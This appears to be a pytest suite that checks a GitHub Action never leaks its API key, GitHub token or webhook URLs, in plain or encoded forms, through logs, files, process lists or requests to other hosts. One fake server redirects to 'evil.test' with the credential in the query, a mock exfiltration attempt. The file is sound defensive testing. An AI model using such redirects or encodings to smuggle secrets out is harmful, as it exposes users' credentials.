"""No secret leaves the process but to its own host: not as it is, and in none of its usual forms."""

from __future__ import annotations

import base64
import html
import json
import re
import threading
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote, quote_plus, unquote, urlsplit

import httpx
import pytest
from fakes import API, FakeNetwork, Run
from hub import GITHUB, REPOSITORY, RUN_ID, run_environ
from processes import HAS_PROC, LONGEST_WAIT, renderers, started, until, world
from wire import Peer, answering, listening, packed

from digest.standin import API_KEY, CreatorAudit, Reply, Request

Runs = Callable[..., Run]
Answer = Callable[[httpx.Request], httpx.Response]
Case = tuple[str, str, Mapping[str, str]]

KEY = "ca_c4n4ryKey+0123456789/abcdefABCDEF=="
TOKEN = "ghs_c4n4ryToken0123456789abcdefABCDEF"
#: URLs as each chat has them, with what is secret in them at each place where a chat has it.
HOOKS = {
    "json": "https://hooks.example.test/in/c4n4ryPath0123456789/c4n4ryLast0123456789?key=c4n4ryQuery%2F0123456789%3D",
    "slack": "https://hooks.slack.com/services/T0C4N4RY/B0C4N4RY/c4n4rySlack0123456789",
    "discord": f"https://discord.com/api/webhooks/12345678901234567890/{'c4n4ry-D1scord_' * 5}",
    "teams": "https://prod-1.westeurope.logic.azure.com/workflows/c4n4ryFlow0123456789/triggers/manual/paths/invoke"
    "?api-version=2016-06-01&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig=c4n4rySig_0123456789-abcdef",
    "google-chat": "https://chat.googleapis.com/v1/spaces/AAAAc4n4ry/messages"
    "?key=c4n4ryGoogleKey0123456789&token=c4n4ryGoogleToken0123456789%3D",
    "telegram": "https://api.telegram.org/bot1234567890:c4n4ryBot0123456789abcdefghijklmnop/sendMessage?chat_id=-100123",
}
#: What somebody who has it could use.
_SHORTEST = 8


def _parts(url: str) -> Iterator[str]:
    """Yield what is secret of a webhook's URL: all of it, its path, its last segment, the values of its query."""
    split = urlsplit(url)
    yield url
    yield f"{split.path}?{split.query}" if split.query else split.path
    if not split.path.endswith(("/messages", "/invoke", "/sendMessage")):
        yield split.path.rpartition("/")[2]
    yield from re.findall(r"\d+:c4n4ry\w+", split.path)
    yield from (value for value in re.findall(r"=([^&]+)", split.query) if "c4n4ry" in value)


SECRETS: Mapping[str, tuple[str, ...]] = {
    "api.creatoraudit.com": (KEY,),
    "api.github.com": (TOKEN,),
    **{urlsplit(url).hostname or "": tuple(_parts(url)) for url in HOOKS.values()},
}
ALL_HOOKS = "\n".join(HOOKS.values())


def _forms(secret: str) -> Iterator[str]:
    """Yield the ways in which a program may write *secret*."""
    for text in {secret, unquote(secret)}:
        yield text
        yield quote(text, safe="")
        yield quote(text)
        yield quote_plus(text)
        yield quote(quote(text, safe=""), safe="")
        yield json.dumps(text)[1:-1]
        yield text.replace("/", "\\/")
        yield html.escape(text)
        yield text[::-1]
        for shift in range(3):
            # Characters at either end hold bits of their neighbours.
            for encode in (base64.b64encode, base64.urlsafe_b64encode):
                yield encode(b"\0" * shift + text.encode()).decode().rstrip("=")[shift + 1 : -2]


FORMS = {
    secret: {form for form in _forms(secret) if len(form) >= _SHORTEST} for many in SECRETS.values() for secret in many
}


def found(text: str) -> list[str]:
    """Return the secrets that *text* holds in some form."""
    return [form for forms in FORMS.values() for form in forms if form in text]


def _without_masks(log: str) -> str:
    return "".join(line for line in log.splitlines(keepends=True) if not line.startswith("::add-mask::"))


def _all_of(request: httpx.Request) -> str:
    """Return all that a server gets to know."""
    lines = [f"{request.method} {request.url} {request.url.raw_path.decode()}"]
    lines += [f"{name}: {value}" for name, value in request.headers.items()]
    return "\n".join([*lines, request.content.decode()])


def _said(words: str) -> Answer:
    return lambda request: httpx.Response(
        400,
        json={
            "code": words_of(request, words),
            "detail": words_of(request, words),
            "request_id": words_of(request, words),
        },
        headers={"X-Request-ID": words_of(request, words), "Content-Type": words_of(request, words)},
    )


def words_of(request: httpx.Request, how: str) -> str:
    """Return what a server says that tells what it was asked, in some way."""
    credential = request.headers.get("authorization", "").removeprefix("Bearer ")
    asked = f"{credential} {request.url} {request.url.raw_path.decode()}".strip()
    ways: Mapping[str, Callable[[str], str]] = {
        "plain": str,
        "quoted": lambda text: quote(text, safe=" "),
        "decoded": unquote,
        "in JSON": lambda text: json.dumps(text).replace("/", "\\/"),
        "in HTML": html.escape,
        "all": lambda text: f"{text}\r\n{_all_of(request)}".replace("\n", " ").replace("\r", " "),
    }
    return ways[how](asked)


def _text(how: str, status: int) -> Answer:
    return lambda request: httpx.Response(status, text=words_of(request, how), headers={"Retry-After": "0"})


def _redirect(request: httpx.Request) -> httpx.Response:
    return httpx.Response(307, headers={"Location": f"https://evil.test/?{quote(words_of(request, 'plain'), safe='')}"})


def _keys(request: httpx.Request) -> httpx.Response:
    return httpx.Response(200, json={words_of(request, "plain"): 1})


def _raising(error: type[Exception]) -> Answer:
    def answer(request: httpx.Request) -> httpx.Response:
        raise error(f"{words_of(request, 'plain')} {_all_of(request)}")

    return answer


#: How servers say what they were told.
HOWS = ("plain", "quoted", "decoded", "in JSON", "in HTML", "all")
#: What servers and the network may do, most of it with all that they were told in it.
FAILURES: Mapping[str, Answer] = {
    **{f"problem, {how}": _said(how) for how in HOWS},
    **{f"text, {how}": _text(how, 403) for how in HOWS},
    "busy": _text("plain", 503),
    "server error": _text("all", 500),
    "redirect": _redirect,
    "keys of an object": _keys,
    "no connection": _raising(httpx.ConnectError),
    "time-out": _raising(httpx.ReadTimeout),
    "protocol": _raising(httpx.RemoteProtocolError),
    "bug": _raising(LookupError),
    "invalid": _raising(ValueError),
}
STAGES: Mapping[str, tuple[tuple[str, str], ...]] = {
    "overview": (("GET", f"{API}/overview"),),
    "ranking": (("GET", f"{API}/creators/top"),),
    "optional": (
        ("GET", f"{API}/accounts"),
        ("GET", f"{GITHUB}/repos/{REPOSITORY}/actions/runs/{RUN_ID}/attempts/1/jobs"),
    ),
    "chats": tuple(("POST", url.partition("?")[0]) for url in HOOKS.values()),
}


@pytest.fixture
def keyed(network: FakeNetwork) -> FakeNetwork:
    """Return a network on which the API takes this file's key, and all chats say ok."""

    def answer(request: httpx.Request) -> httpx.Response:
        headers = {"authorization": request.headers["authorization"]}
        reply = _keyed(Request(request.method, request.url.path, dict(request.url.params), headers))
        return httpx.Response(reply.status, content=reply.body, headers=dict(reply.headers))

    for path in ("/overview", "/creators/top", "/accounts"):
        network.on("GET", API + path, answer)
    network.on(*STAGES["optional"][1], httpx.Response(200, json={"jobs": []}))
    for method, url in STAGES["chats"]:
        said = "ok" if "slack" in url else '{"ok": true, "id": "1", "name": "spaces/1/messages/1"}'
        network.on(method, url, httpx.Response(200, text=said))
    return network


#: Bugs of the action, which debug logging tells more of.
BUGS = ("bug", "invalid")
CASES = [
    (failure, stage, {"RUNNER_DEBUG": debugging})
    for failure in FAILURES
    for stage in STAGES
    for debugging in (("", "1") if failure in BUGS else ("1",))
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case[0]} at {case[1]} {case[2]['RUNNER_DEBUG']}")
def test_leaks__of_failures(
    run: Runs, keyed: FakeNetwork, tmp_path: Path, capfd: pytest.CaptureFixture[str], case: Case
) -> None:
    """Whatever goes wrong and wherever, no secret is in the log, the outputs, a file, or a request to another host."""
    failure, stage, environ = case
    for method, url in STAGES[stage]:
        keyed.on(method, url, FAILURES[failure])
    result = _run(run, environ)
    _assert_no_leak(result, keyed, tmp_path, capfd)
    assert (result.code != 0) == (stage != "optional" or failure in BUGS), result.log
    # The frames of a bug are told, but nothing of what they hold.
    assert ("def answer" in result.log or "raise error" in result.log) == (
        failure in BUGS and environ["RUNNER_DEBUG"] == "1"
    )


@pytest.mark.parametrize(
    "inputs", [{}, {"dry_run": "true"}, {"limit": "0"}, {"base_url": "x"}, {"template": "no.j2"}], ids=str
)
def test_leaks__of_runs(
    run: Runs, keyed: FakeNetwork, tmp_path: Path, capfd: pytest.CaptureFixture[str], inputs: Mapping[str, str]
) -> None:
    """A run that posts, a dry one, and one with bad input leave no secret behind either."""
    _assert_no_leak(_run(run, {"RUNNER_DEBUG": "1"}, **inputs), keyed, tmp_path, capfd)


@pytest.mark.parametrize("stage", ["overview", "chats"])
def test_leaks__no_part_at_a_cut(run: Runs, keyed: FakeNetwork, stage: str) -> None:
    """Where a server's words are cut, no beginning of a secret is left that stood there."""
    for before in range(160, 210, 4):
        for method, url in STAGES[stage]:
            keyed.on(method, url, _padded("." * before))
        result = _run(run, {})
        beginnings = {secret[:_SHORTEST] for many in SECRETS.values() for secret in many if "c4n4ry" in secret}
        log = _without_masks(result.log)
        assert ".." in log
        assert {text for text in beginnings - {"https://"} if text in log.replace("https://", "")} == set(), log


def _padded(before: str) -> Answer:
    def answer(request: httpx.Request) -> httpx.Response:
        said = f"{before}{words_of(request, 'plain')}"
        return httpx.Response(400, json={"code": said, "detail": said, "request_id": said})

    return answer


def _run(run: Runs, environ: Mapping[str, str], **inputs: str) -> Run:
    given = {"api_key": KEY, "webhook_url": ALL_HOOKS, "github_token": TOKEN, **inputs}
    return run({**run_environ(2), **environ}, **given)


def _assert_no_leak(result: Run, network: FakeNetwork, folder: Path, capfd: pytest.CaptureFixture[str]) -> None:
    shown = {"log": _without_masks(result.log), "outputs": str(dict(result.outputs)), "summary": result.summary}
    streams = capfd.readouterr()
    shown |= {"stdout": streams.out, "stderr": streams.err}
    shown |= {str(path): path.read_text(encoding="utf-8") for path in folder.rglob("*") if path.is_file()}
    assert {where: found(text) for where, text in shown.items() if found(text)} == {}
    assert "Traceback" not in result.log
    for request in network.requests:
        own = {form for secret in SECRETS[request.url.host] for form in FORMS[secret]}
        assert set(found(_all_of(request))) <= own, request.url.host


def _echo(peer: Peer) -> None:
    """Answer with all that was asked, in every place that an answer has."""
    head = peer.head()
    request = peer.rest(head)
    words = head.decode("latin-1").replace("\r\n", " ") + request.body.decode()
    headers = {"X-Request-ID": words, "Location": words, "Retry-After": words, "Content-Type": words}
    headers = {name: value.encode("ascii", "replace").decode() for name, value in headers.items()}
    peer.send(packed(Reply(400, json.dumps({"detail": words, "code": words}).encode(), headers)))


@pytest.mark.skipif(not HAS_PROC, reason="looks at processes through /proc")
@pytest.mark.parametrize("echoes", ["api", "chat", "hub"])
def test_leaks__of_processes(echoes: str, tmp_path: Path) -> None:
    """A real process shows no secret on its streams, in its files, or in what others see of processes."""
    temp = tmp_path / "temp"
    gate = threading.Event()

    def api(peer: Peer) -> None:
        gate.wait(LONGEST_WAIT)
        (_echo if echoes == "api" else answering(_keyed))(peer)

    with (
        listening(api) as api_port,
        listening(_echo if echoes == "chat" else answering(lambda _: Reply(200, b"ok"))) as chat,
        listening(_echo if echoes == "hub" else answering(lambda _: Reply(200, b'{"jobs": []}'))) as hub,
    ):
        hook = HOOKS["json"].replace("https://hooks.example.test", f"http://127.0.0.1:{chat}")
        environ = {
            **world(
                temp, api_key=KEY, webhook_url=hook, github_token=TOKEN, base_url=f"http://127.0.0.1:{api_port}/v2"
            ),
            **run_environ(2, GITHUB_API_URL=f"http://127.0.0.1:{hub}"),
            "RUNNER_DEBUG": "1",
        }
        with started(environ, temp) as action:
            until(lambda: renderers(action.process.pid))
            seen = [Path(f"/proc/{pid}/cmdline").read_text(encoding="utf-8") for pid in _family(action.process.pid)]
            gate.set()
            result, _ = action.end()
    assert result.code == (0 if echoes == "hub" else 1)
    texts = [_without_masks(result.log), str(dict(result.outputs)), result.summary, *seen]
    texts += [path.read_text(encoding="utf-8") for path in temp.rglob("*") if path.is_file()]
    assert [found(text) for text in texts if found(text)] == []
    assert "Traceback" not in result.log


def _family(pid: int) -> list[int]:
    return [pid, *renderers(pid)]


def _keyed(request: Request) -> Reply:
    """Answer as the stand-in does, but to this file's key."""
    assert request.headers["authorization"] == f"Bearer {KEY}"
    return CreatorAudit()(replace(request, headers={**request.headers, "authorization": f"Bearer {API_KEY}"}))
